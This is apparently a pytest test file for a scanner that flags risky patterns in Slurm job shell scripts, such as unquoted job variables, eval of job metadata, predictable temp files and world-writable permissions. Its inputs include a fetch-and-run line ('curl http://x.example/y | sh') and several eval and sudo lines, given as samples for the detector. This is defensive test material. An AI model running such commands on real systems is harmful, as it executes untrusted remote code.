"""What a shell script does with what a job's owner chose."""

from __future__ import annotations

import pytest
from msgspec import UNSET

from holdfast.collect.shell import conduct, interpreter
from holdfast.core.asset import Spot
from holdfast.formats.shell import expansions
from holdfast.kinds.script import Script


def of(text: str) -> tuple[tuple[Script, frozenset[str] | None], dict[str, Spot]]:
    spots: dict[str, Spot] = {}
    found = conduct(Script(), text, spots)
    return (found.facts, found.commands), spots


def names(uses) -> list[str]:
    return [use.name for use in uses]


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (b"#!/bin/bash\n", "shell"),
        (b"#!/usr/bin/env bash\n", "shell"),
        (b"#!/bin/sh -e\n", "shell"),
        (b"#!/usr/bin/python3\n", "python3"),
        (b"#!/usr/bin/env -S lua5.4\n", "lua5.4"),
        (b"\x7fELF\0\0", None),
        (b"echo\n", UNSET),
    ],
)
def test_the_interpreter_stands_in_the_first_line(data, found):
    assert interpreter(data) == found or (interpreter(data) is UNSET and found is UNSET)


def test_values_of_the_job_in_a_command():
    (facts, commands), spots = of(
        'mkdir $SLURM_JOB_NAME\nrm "$SLURM_JOB_COMMENT"\nchown $SLURM_JOB_USER x\nsh -c "a $SPANK_X"\n'
    )
    assert names(facts.unquoted) == ["SLURM_JOB_NAME"]
    assert names(facts.evaluated) == ["SPANK_X"]
    assert spots["unquoted[0]"] == Spot(1, 7)
    assert commands is not None
    assert "mkdir" in commands


def test_one_name_is_one_use():
    (facts, _), spots = of("a $SPANK_X\nb $SPANK_X\n")
    assert names(facts.unquoted) == ["SPANK_X"]
    assert spots["unquoted[0]"].line == 1


@pytest.mark.parametrize(
    ("line", "sourced", "known"),
    [
        (". /home/a/env", ["/home/a/env"], True),
        ("source $SLURM_JOB_WORK_DIR/env", ["$SLURM_JOB_WORK_DIR/env"], False),
        (". ~bob/env", ["~bob/env"], False),
        (". /etc/profile", [], True),
        (".", [], False),
    ],
)
def test_files_of_the_owner_that_are_read_as_code(line, sourced, known):
    (facts, commands), _ = of(line + "\n")
    assert names(facts.sourced) == sourced
    assert (commands is not None) is known


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("/home/a/bin/x", ["/home/a/bin/x"]),
        ("python3 -u /scratch/c.py /tmp/y", ["/scratch/c.py"]),
        ("bash /tmp/x.sh", ["/tmp/x.sh"]),
        ("sudo -u root bash /tmp/x.sh", ["/tmp/x.sh"]),
        ("su -c /home/a/x", ["/home/a/x"]),
        ("python3 -m x /tmp/y", []),
        ("sudo -u bob /home/bob/x", []),
        ("sudo --user=bob /home/bob/x", []),
        ("sudo -ubob /home/bob/x", []),
        ("su - $SLURM_JOB_USER -c '/home/b/x; /tmp/y'", []),
        ("su -s /bin/sh -c '/home/b/x' bob", []),
        ("runuser -u bob -- /home/bob/x", []),
        ("gosu bob /tmp/x", []),
        ("/usr/bin/x /home/a", []),
    ],
)
def test_files_of_users_that_are_run(line, found):
    (facts, _), _ = of(line + "\n")
    assert names(facts.sourced) == found


def test_downloads_that_are_run():
    (facts, _), spots = of("true\ncurl http://x.example/y | sh\n")
    assert names(facts.downloaded) == ["sh"]
    assert spots["downloaded[0]"].line == 2


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("echo > /tmp/a.$SLURM_JOB_ID", ["/tmp/a.$SLURM_JOB_ID"]),
        ("L=/var/tmp/l\nexec >> $L 2>&1", ["/var/tmp/l"]),
        (">/tmp/a echo", ["/tmp/a"]),
        ("ls | tee -a /dev/shm/x", ["/dev/shm/x"]),
        ("cat < /tmp/x", []),
        ("T=$(mktemp /tmp/x.XXXX)\necho > $T", []),
        ("echo > /tmp/$RANDOM", []),
        ("echo > /var/log/x", []),
    ],
)
def test_files_that_others_can_foresee(line, found):
    (facts, _), _ = of(line + "\n")
    assert names(facts.foreseen) == found


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("x=`scontrol show job $SLURM_JOB_ID | grep Comment`; eval $x", ["x"]),
        ("eval $(scontrol show job -o $SLURM_JOB_ID)", ["scontrol"]),
        ("f() { eval $1; }\nf $SLURM_JOB_NAME", ["$1"]),
        ("x=$(squeue -h -j 1 -o %u); eval $x", []),
        ("x=$(squeue -h -j 1 -o %j); eval $x", ["x"]),
        ("x=$(scontrol show hostnames $SLURM_JOB_NODELIST); eval $x", []),
        ("x=$(scontrol show job 1 | grep -o NumNodes=.); eval $x", []),
    ],
)
def test_what_slurm_tells_of_a_job(text, found):
    (facts, _), _ = of(text + "\n")
    assert names(facts.evaluated) == found


def test_commands_without_a_search_path():
    (facts, commands), _ = of("f() { rm x; }\nf\ncd /\n/bin/ls\n$CMD\n")
    assert names(facts.searched) == ["rm"]
    assert commands is None
    (facts, commands), _ = of("PATH=/bin\nrm x\n")
    assert names(facts.searched) == []
    assert commands == {"rm"}


@pytest.mark.parametrize(
    ("line", "opens"),
    [
        ("chmod 777 x", True), ("chmod -R 0777 x", True), ("chmod 666 x", True), ("chmod o+w x", True),
        ("chmod a+rwX x", True), ("chmod +w x", True), ("chmod u=rwx,o=rw x", True), ("chmod 2777 x", True),
        ("umask 0", True), ("umask 000", True), ("umask 0000", True), ("umask 020", True),
        ("chmod 1777 x", False), ("chmod 755 x", False), ("chmod 0640 x", False), ("chmod g+w x", False),
        ("chmod o-w x", False), ("chmod --reference=a x", False), ("chmod u+w x", False), ("chmod", False),
        ("install -d -m 0777 /local/x", True), ("install -m0666 a b", True), ("mkdir -pm 777 x", True),
        ("mkdir -p --mode=a=rwx x", True), ("mkdir --mode 0777 x", True), ("mkdir -m 1777 x", False),
        ("install -d -m 0755 -o root x", False), ("mkdir 777", False), ("mkdir -p x", False),
        ("umask 022", False), ("umask 077", False), ("umask", False), ("umask 0002", False), ("umask -S", False),
    ],
)  # fmt: skip
def test_what_opens_files_to_everybody(line, opens):
    (facts, _), _ = of(line + "\n")
    assert bool(facts.opens_files) is opens


def test_what_cannot_be_read_is_unobserved(monkeypatch):
    monkeypatch.setattr(expansions, "SIZE", 3)
    (facts, commands), spots = of("echo $SPANK_X\n")
    assert facts == Script()
    assert commands is None
    assert spots == {}
